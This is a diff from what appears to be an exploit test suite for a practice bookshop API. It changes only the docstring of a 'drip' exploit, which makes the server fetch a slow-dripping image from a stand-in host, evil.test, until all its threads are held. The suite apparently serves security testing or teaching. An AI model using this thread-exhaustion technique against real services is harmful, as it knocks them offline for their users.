@@ -304,7 +304,7 @@ def fetch_a_page(shop: Shop) -> Outcome:
 
 @exploit("2.6", "API4", "a server that drips holds a thread")
 def drip(shop: Shop) -> Outcome:
-    """A byte every tenth of a second, so that no single wait is long; eight such requests have all eight threads."""
+    """A byte every twentieth of a second: no single wait is long. Eight such requests have all eight threads."""
     url = "http://evil.test/drip.png?seconds=4"
     answer = an_editor_with_a_cover(shop).post("/api/books/1/cover", json={"url": url})
     if answer.is_success:
